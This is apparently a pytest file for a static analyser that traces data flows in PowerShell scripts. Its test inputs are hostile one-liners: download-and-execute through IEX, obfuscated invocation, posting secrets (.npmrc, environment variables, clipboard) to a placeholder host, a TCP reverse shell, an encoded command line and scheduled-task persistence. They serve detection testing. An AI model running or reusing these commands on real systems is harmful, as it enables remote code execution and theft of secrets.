"""PowerShell scripts: data followed from where it comes from to where it ends."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, FileFacts, Language, PayloadKind, Taint
from pratique.analysis.languages.shell import read_command
from pratique.analysis.languages.shell.powershell_script import extract

CODE, PROCESS, NETWORK = Capability.CODE, Capability.PROCESS, Capability.NETWORK
INNER = base64.b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://p.invalid/b')").decode()


def read(text: str) -> FileFacts:
    return extract(text.encode())


FLOWS = [
    ("iex (New-Object Net.WebClient).DownloadString('http://p.invalid')", CODE, Taint.NETWORK),
    ("$s = irm http://p.invalid\n$s | iex", CODE, Taint.NETWORK),
    ("$w = New-Object Net.WebClient; $s = $w.DownloadString('http://p.invalid'); I`E`X $s", CODE, Taint.NETWORK),
    ("&('i'+'ex') (iwr http://p.invalid).Content", CODE, Taint.NETWORK),
    ("[scriptblock]::Create((irm http://p.invalid)).Invoke()", CODE, Taint.NETWORK),
    ("$b = [Convert]::FromBase64String($x); [Reflection.Assembly]::Load($b)", CODE, Taint.DECODED),
    ("iwr http://p.invalid -OutFile m.exe\nStart-Process m.exe", PROCESS, Taint.NETWORK),
    ("$f=\"$env:TEMP\\m.exe\"\n(New-Object Net.WebClient).DownloadFile('http://p.invalid', $f)\n& $f", PROCESS, Taint.NETWORK),
    ("$d = gci env: | Out-String; irm http://p.invalid -Method Post -Body $d", NETWORK, Taint.ENVIRONMENT),
    ("$w.UploadString('http://p.invalid', (Get-Content ~/.npmrc))", NETWORK, Taint.SECRETS),
    ("irm http://p.invalid -Method Post -Body $env:USERNAME", NETWORK, Taint.IDENTITY),
    ("$c = Get-Clipboard\nirm http://p.invalid -Method Post -Body $c", NETWORK, Taint.CLIPBOARD),
    (
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444)\n$s = $c.GetStream()\nwhile(($i = $s.Read($b, 0, 9)) -ne 0){\n$d = $e.GetString($b,0,$i)\n$r = (iex $d 2>&1)\n}",
        CODE,
        Taint.NETWORK,
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "sink", "taint"), FLOWS)
def test_data_that_reaches_a_sink_is_a_flow(text: str, sink: Capability, taint: Taint) -> None:
    assert (sink, True) in [(flow.sink, taint in flow.taints) for flow in read(text).flows]


def test_the_address_of_a_client_and_the_target_are_told() -> None:
    assert "203.0.113.9:4444" in {item.value for item in read(FLOWS[-1][0]).addresses}
    assert ["http://p.invalid"] == [flow.target for flow in read(FLOWS[0][0]).flows]


@pytest.mark.parametrize(
    "text",
    [
        "$u = 'http://p.inv' + 'alid/b'\niwr $u",
        "$u = \"{1}{0}\" -f 'alid/b','http://p.inv'\niwr $u",
        "iwr ('http://p.inXalid/b' -replace 'X','v')",
        "iwr ('http://p.','invalid/b' -join '')",
    ],
)
def test_addresses_are_put_together(text: str) -> None:
    assert ("http://p.invalid/b", True) in [(item.value, item.encoded) for item in read(text).addresses]


def test_an_encoded_literal_that_is_a_script_is_a_payload_and_read() -> None:
    found = read(f"$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{INNER}'))\niex $t")

    assert [PayloadKind.SCRIPT] == [item.kind for item in found.payloads]
    assert ("http://p.invalid/b", True) in [(item.value, item.encoded) for item in found.addresses]
    assert {Taint.DECODED} <= {taint for flow in found.flows for taint in flow.taints}


def test_a_command_line_that_carries_a_script_has_its_facts() -> None:
    encoded = base64.b64encode(
        "iwr http://p.invalid -OutFile m.exe; Start-Process m.exe".encode("utf-16-le")
    ).decode()
    found = read_command(f"powershell -nop -enc {encoded}")

    assert (PROCESS, (Taint.NETWORK,), 1) in [(flow.sink, flow.taints, flow.depth) for flow in found.flows]


def test_programs_on_lines_are_commands() -> None:
    found = read("node lib/x.js\nschtasks /create /tn m /tr m.exe\n")

    assert ["lib/x.js"] == [command.runs for command in found.commands if command.runs]
    assert Capability.PERSISTENCE in {use.capability for use in found.uses}


@pytest.mark.parametrize(
    "text",
    [
        '#!/usr/bin/env pwsh\n$basedir=Split-Path $MyInvocation.MyCommand.Definition -Parent\n& "node$exe"  "$basedir/x.js" $args\n',
        "# iex (irm http://p.invalid)\n<# iex $x #>\nWrite-Host 'iex is a command'\n",
        "Invoke-WebRequest https://a.invalid/x.json -OutFile x.json\nGet-Content x.json | ConvertFrom-Json\n",
        "param($x)\nif ($x) { Set-Location $x }\nGet-ChildItem | Sort-Object Name\n",
    ],
)
def test_ordinary_scripts_have_no_flow(text: str) -> None:
    assert () == read(text).flows


@pytest.mark.parametrize("text", ["iex $x", "$a='b'"])
def test_scripts_of_two_bytes_a_character_are_read(text: str) -> None:
    assert extract(text.encode("utf-16")).problem is None


@pytest.mark.parametrize(
    "unit",
    [
        "'",
        '"',
        "`",
        "@'\n",
        "$a=$a+$a\n",
        "('a',",
        "{0}",
        "[char]65+",
        "'a'+",
        "#",
        "<#",
        "{",
        "iex ",
        "\n",
        "$x.Read(",
    ],
)
def test_a_long_row_of_anything_repeated_is_read(unit: str) -> None:
    assert Language.POWERSHELL is extract((unit * (200_000 // len(unit))).encode()).language


@pytest.mark.fuzz
@given(st.binary(max_size=300))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert Language.POWERSHELL is extract(source).language
